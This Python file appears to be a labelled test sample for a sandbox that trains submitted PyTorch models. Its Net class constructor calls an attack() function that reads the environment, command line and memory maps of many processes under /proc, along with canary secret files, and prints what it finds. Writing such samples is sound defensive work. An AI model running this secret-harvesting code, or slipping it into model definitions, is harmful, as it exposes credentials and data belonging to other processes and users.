# group: secrets
# tries: reads the environment and the command line of every process it can see
# static: unsafe
# sandbox: trained

import os

import torch.nn as nn


FILES = ("environ", "cmdline", "maps", "root/tmp/archloop-canary/secret.txt", "cwd/secret.txt")


def attack():
    processes = ["self", "thread-self", str(os.getppid())] + [str(number) for number in range(1, 3000)]
    for process in processes:
        own = process in ("self", "thread-self") or os.path.exists(f"/proc/self/task/{process}")
        for name in FILES:
            try:
                with open(f"/proc/{process}/{name}", "rb") as opened:
                    content = opened.read(4096)
            except OSError:
                continue
            if not own or "secret" in name:
                print("BREACH", process, name)
            if name == "environ":  # whether a secret is in it is looked at outside
                print(content)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
